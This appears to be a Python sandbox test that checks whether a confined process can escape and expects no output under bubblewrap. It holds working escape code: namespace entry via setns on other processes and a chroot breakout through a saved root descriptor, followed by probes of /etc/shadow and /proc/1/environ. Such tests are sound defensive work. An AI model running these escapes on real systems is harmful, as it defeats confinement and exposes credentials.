"""Enters the namespaces of other processes, and walks out of its root by old descriptors.

Deserves: nothing.
Never says, with bubblewrap: canary-out
"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
out = []
for process in (1, os.getppid() or 1, 2):
    try:
        handle = os.pidfd_open(process)
        if libc.setns(handle, 0x20000 | 0x20000000) == 0:
            out.append("canary-out")
    except OSError:
        pass
try:
    deep = os.open("/", os.O_RDONLY)
    os.mkdir(os.environ["HOME"] + "/hole")
    os.chroot(os.environ["HOME"] + "/hole")
    os.fchdir(deep)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
for file in ("/etc/shadow", "/etc/hostname", "/root/.bashrc", "/home/canary", "/proc/1/environ"):
    if os.path.lexists(file):
        out.append(f"canary-out {file}")
z = " ".join(out)
